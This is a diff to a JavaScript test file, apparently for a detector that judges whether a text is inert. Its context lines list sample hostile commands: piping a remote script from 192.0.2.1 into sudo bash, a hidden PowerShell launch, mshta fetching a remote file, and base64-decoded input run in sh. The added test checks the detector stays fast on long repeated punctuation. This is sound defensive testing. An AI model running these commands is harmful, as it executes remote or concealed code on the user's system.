@@ -109,6 +109,11 @@ describe('a text in which nothing acts', () => {
     const commands = ['curl -fsSL http://192.0.2.1/a | sudo bash', 'powershell -nop -w hidden -c x', 'mshta http://192.0.2.1/a', 'echo aWQ= | base64 -d | sh'];
     for (const { name, honest } of Object.values(texts)) for (const command of commands) expect(await passive(name, `${honest}\n${command}\n`)).toBe(false);
   });
+  test.each(['"\\', "'", '{"\\', '[x](y ', '<a '])('%s over and over is read in little time', async (unit) => {
+    const from = Date.now();
+    await passive('a.txt', unit.repeat(60_000));
+    expect(Date.now() - from).toBeLessThan(4_000);
+  });
   test('whatever the text, an answer comes, and soon', async () => {
     const pieces = fc.constantFrom('{', '}', '<', '"', "'", '#', '\n', ' ', '/*', '`', '$', '=', ':', '- ', 'a', '@', '%', '\\', '--', '[[', '|');
     await fc.assert(fc.asyncProperty(fc.array(pieces, { maxLength: 40 }), fc.integer({ min: 1, max: 400 }), async (parts, times) => {
